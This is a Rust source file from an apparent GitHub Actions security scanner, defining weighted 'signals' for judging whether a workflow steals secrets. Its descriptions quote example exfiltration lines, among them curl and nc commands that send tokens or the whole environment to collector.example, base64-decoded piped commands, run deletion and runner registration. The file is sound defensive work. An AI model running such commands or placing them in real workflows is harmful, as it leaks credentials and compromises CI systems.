//! Signals: the facts that a verdict is made of, by stable identifiers.
//!
//! Each says one thing that can be checked by eye. `portcullis explain ID` prints what stands here.

pub mod example;

/// How much a signal says about intent. Two weak ones never add up to a theft.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Weight {
    /// Says where something goes, not why.
    Place,
    /// Happens to honest people too.
    Weak,
    /// More is taken than any use of it needs.
    Greed,
    /// Somebody took trouble that it not be seen.
    Hiding,
    /// Speaks for an honest purpose.
    Excuse,
}

/// All weights.
pub const WEIGHTS: &[Weight] = &[Weight::Place, Weight::Weak, Weight::Greed, Weight::Hiding, Weight::Excuse];

impl Weight {
    /// What such a signal does to a verdict.
    pub fn explanation(self) -> &'static str {
        match self {
            Weight::Place => {
                "says where something goes, or what an outsider gets at; half of a theft, never all of it"
            }
            Weight::Weak => "happens to honest people too; any number of them is never a theft",
            Weight::Greed => "more is taken than any use of it needs; with a foreign place it is a theft",
            Weight::Hiding => "somebody took trouble that it not be seen; with a foreign place it is a theft",
            Weight::Excuse => "speaks for an honest purpose, and makes the verdict milder",
        }
    }

    /// What the weight means, in a few words.
    pub fn meaning(self) -> &'static str {
        match self {
            Weight::Place => "where it goes",
            Weight::Weak => "weak",
            Weight::Greed => "greed",
            Weight::Hiding => "hiding",
            Weight::Excuse => "an excuse",
        }
    }
}

macro_rules! signals {
    ($($name:ident = $id:literal, $weight:ident, $meaning:literal;)*) => {
        /// One fact about a finding.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub enum Signal {
            $(#[doc = $meaning] $name,)*
        }

        /// All of them, in the order of the list above.
        pub const ALL: &[Signal] = &[$(Signal::$name,)*];

        impl Signal {
            /// The identifier in documents.
            pub fn id(self) -> &'static str {
                match self { $(Signal::$name => $id,)* }
            }
            /// What it says about intent.
            pub fn weight(self) -> Weight {
                match self { $(Signal::$name => Weight::$weight,)* }
            }
            /// What it means, with an example.
            pub fn meaning(self) -> &'static str {
                match self { $(Signal::$name => $meaning,)* }
            }
        }
    };
}

signals! {
    ForeignDestination = "foreign-destination", Place, "The host is written in the file and belongs to no service that is known to need the secret: `curl -d \"$T\" https://collector.example/`.";
    RawAddress = "raw-address", Weak, "The destination is an IP address: nobody's name stands behind it.";
    DropBox = "drop-box", Hiding, "The destination shows what it got to whoever made it, without an account: request bins, tunnels, pastes.";
    LookAlike = "look-alike", Hiding, "The name of the receiver is made to be taken for a known one: `upload.pypl.org`, `actions/checkout` under another owner.";
    PlainHttp = "plain-http", Weak, "The secret travels unencrypted.";
    ReadableLog = "readable-log", Place, "The secret reaches the job's log in a form that the runner's mask does not cover; who can read the log can read the secret.";
    MaskedLog = "masked-log", Weak, "The secret is printed, but in a form that the runner masks: `echo \"$TOKEN\"`.";
    Downloadable = "downloadable", Place, "The secret lies in an artifact, a cache, a comment or a repository, from where it can be fetched.";
    UnrelatedSecrets = "unrelated-secrets", Greed, "A secret whose name or use says what it opens goes to a place that is not that: a PyPI token to a host that is not PyPI's; or secrets that have nothing to do with each other go together.";
    AllSecrets = "all-secrets", Greed, "The whole `secrets` context leaves: `toJSON(secrets)`.";
    InheritedSecrets = "inherited-secrets", Weak, "A reusable workflow of another owner gets all secrets by `secrets: inherit`.";
    ManySecrets = "many-secrets", Weak, "Three secrets or more leave together.";
    LabelledSecrets = "labelled-secrets", Greed, "The names of several secrets are sent along with their values: `A=${{ secrets.A }}&B=${{ secrets.B }}`. Who uses a credential knows its name; who collects them needs it.";
    EnvironmentDump = "environment-dump", Greed, "The whole environment leaves, with the secrets in it: `env | curl -d @- …`.";
    RunnerCredentials = "runner-credentials", Greed, "Credentials that the runner keeps for itself leave: OIDC request tokens, the checkout's token, files in the home directory.";
    MemoryRead = "memory-read", Hiding, "The memory of the runner's process is read, where every secret stands unmasked.";
    Encoded = "encoded", Weak, "The secret is encoded once before it leaves.";
    MaskEvasion = "mask-evasion", Hiding, "The secret is changed in a way whose only use is to get past the runner's mask: reversed, spaced out, split, encoded twice.";
    DecodedCommand = "decoded-command", Hiding, "The command that sends stood encoded in the file and is decoded to run: `echo Y3Vyb… | base64 -d | sh`.";
    AssembledCommand = "assembled-command", Hiding, "The command or the address is put together from pieces that say nothing alone.";
    BareSecret = "bare-secret", Hiding, "The message is the secret and nothing else, and it goes to an address without a name in a job that does nothing else, or over a bare connection: no login looks like that. `echo \"$TOKEN\" | nc collector.example 443`";
    SinglePurpose = "single-purpose", Weak, "The job does nothing else: no checkout of use, no build, no test, only sending.";
    Masquerade = "masquerade", Weak, "The workflow's name or path says security, check or cache, and it sends secrets.";
    SingleFileCommit = "single-file-commit", Weak, "The commit that brought it changed nothing else.";
    MaskingMessage = "masking-message", Weak, "The message of the commit that brought it speaks of security, checks or upkeep: \"Add security workflow\".";
    MissingSignature = "missing-signature", Weak, "The commit that brought it is not signed, and nearly all of the project's commits before it are.";
    HarvestedNames = "harvested-names", Greed, "The names of the secrets are those that other workflows of the repository use for different things.";
    AuthenticatesElsewhere = "established-destination", Excuse, "Another workflow of the repository already authenticated to this host with the same credential 30 days or more before; by the times at which the forge saw the pushes, not by those that commits claim.";
    ConfiguredDestination = "configured-destination", Excuse, "The destination is a secret or variable of the repository: its owner chose it.";
    BelongsThere = "belongs-there", Excuse, "The place is the service that the secret opens.";
    ConsumedThere = "consumed-there", Excuse, "The service takes the value as a setting of the owner's own: `gh secret set`.";
    CoversTracks = "covers-tracks", Hiding, "The run, branch or file is deleted afterwards.";
    RemoteCode = "remote-code", Weak, "Code from an address is run without a check of what it is: `curl … | bash`.";
    ReverseShell = "reverse-shell", Hiding, "A shell is connected to an address.";
    UntrustedCode = "untrusted-code", Place, "Code of a pull request runs where secrets are.";
    UntrustedText = "untrusted-text", Place, "Text that outsiders write is pasted into a script.";
    OwnRunner = "own-runner", Place, "A machine of the owner's own takes jobs that outsiders start (`on: pull_request`, `runs-on: self-hosted`): what runs there can stay there, for the next job.";
    UncheckedCommand = "unchecked-command", Place, "A comment starts a job with secrets, and nobody asks whether its author may: `if: contains(github.event.comment.body, '/deploy')` without `author_association`.";
    AgentReads = "agent-reads-strangers", Place, "A program that acts by itself reads what strangers write, in a job that holds secrets: an issue can tell it to hand them over.";
    RestoredCache = "restored-cache", Place, "A job that publishes restores a cache, which other jobs of the repository may fill: `actions/cache` before `gh-action-pypi-publish`.";
    MutableReference = "mutable-reference", Weak, "The action is named by a tag or branch, which its owner can move.";
    UnknownOwner = "unknown-owner", Weak, "The owner of the action is none of those that everybody uses, and not the repository's own.";
    LongLivedToken = "long-lived-token", Weak, "A package is published with a token that lives until somebody revokes it, where Trusted Publishing would do.";
    Unanalysed = "unanalysed", Weak, "The file could not be analysed; a coarse search stands in for it.";
    KnownIndicator = "known-indicator", Weak, "The destination is on a list of indicators that the operator gave. A list is always late, so it only confirms.";
    DroppedByRunner = "dropped-by-runner", Excuse, "The value comes as a job output, from which the runner takes out what holds a secret as it is: an attempt, unless the secret is changed first.";
    UnknownCommand = "unknown-command", Place, "Which program gets the secret is only known when it runs: `$(cat name) \"$TOKEN\"`.";
    CouldNotRun = "could-not-run", Excuse, "GitHub would refuse to run this file as it is.";
    MissingCode = "missing-code", Weak, "The repository's own action gets it, and that action is not there to be read: `uses: ./actions/deploy`.";
    CodeOutOfPlace = "code-out-of-place", Hiding, "Code from an address that is no known service and looks like no installer runs in a step that is named for something else. It can read all that the runner holds.";
    SettingsOnly = "settings-only", Excuse, "By their names they open nothing: an address, an account, an identifier that somebody keeps among the secrets: `DEPLOY_HOST`, `PROJECT_ID`.";
    NamedAlike = "named-alike", Excuse, "It is a login, and the secret is named after the host or the protocol: `ARGO_TOKEN` at `https://argo-dev.widgets.example/`.";
    LogsInFirst = "logs-in-first", Excuse, "It goes to a machine that the job logs in to, in a job that also builds or checks out: `scp .env deploy@192.0.2.1:`.";
    StartsRunner = "starts-runner", Hiding, "The machine of the job becomes a self-hosted runner: `./config.sh --url … --token …`.";
    GrantsAccess = "grants-access", Hiding, "A workflow gives somebody access: a deploy key, a collaborator, a repository made public.";
    UnknownDestination = "unknown-destination", Place, "Where it goes is only known when it runs: the host comes out of a file, a command or another machine's answer: `H=$(dig +short TXT c.example); curl -d \"$T\" \"https://$H/\"`.";
    OutsidersCommands = "outsiders-commands", Hiding, "On a machine of the owner's own, a job does nothing but run text that any outsider may write.";
    DateConflict = "date-conflict", Weak, "Author's and committer's time, or two sources of a time, differ by more than 24 hours.";
    LoginOnly = "login-only", Excuse, "One credential is the login to the host, by https, and its name speaks against nothing: that is how people reach their own servers. `curl -H \"Authorization: Bearer $DEPLOY_TOKEN\" https://ci.widgets.example/deploy`.";
    WritesWorkflow = "writes-workflow", Hiding, "A workflow writes a workflow: `git add .github/workflows/ci.yml`. What it writes runs with the repository's secrets and stays when the first one is found; people do it too, to keep many repositories in step.";
    OwnKey = "own-key", Excuse, "It goes to a machine by `ssh`, `scp` or `rsync` from a job that has a key for machines among its secrets: where the owner's key opens the door, the house is the owner's. A thief can name a key that he does not use, and so it never excuses more than the last step: `scp -i key .env deploy@192.0.2.1:`.";
    UnneededSecret = "unneeded-secret", Greed, "An action of an owner whom nobody knows and no other workflow uses gets a credential of a registry, a cloud or a server, and its name says that it does something else: a markdown linter with `PYPI_API_TOKEN`.";
    UnverifiedCommit = "unverified", Weak, "The action is pinned to a commit, and without the network nobody can say whether that commit stands on a branch or tag of the repository: through the network of forks a commit of anybody's can be named as `owner/action@<id>`.";
    WritesUnseen = "writes-unseen", Hiding, "A workflow is written by a call of the forge, in a job that has no working copy: `gh api -X PUT repos/me/it/contents/.github/workflows/x.yml`. Nobody who edits workflows works like that; who has only a stolen token does.";
    UploadsAndDeletes = "uploads-and-deletes", Hiding, "What a job uploads stays, and the run, branch or file that did it is taken away: `gh run delete $GITHUB_RUN_ID` after an upload. The only use is that nobody sees it.";
    RegistersRunner = "registers-runner", Hiding, "A workflow asks for a token that registers a runner: `gh api -X POST …/actions/runners/registration-token`. The machine that joins gets later jobs with their secrets.";
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identifiers_are_unique_and_kebab_case() {
        let mut ids: Vec<_> = ALL.iter().map(|signal| signal.id()).collect();
        assert!(ids.iter().all(|id| id.chars().all(|c| c.is_ascii_lowercase() || c == '-')));
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), ALL.len());
    }
}
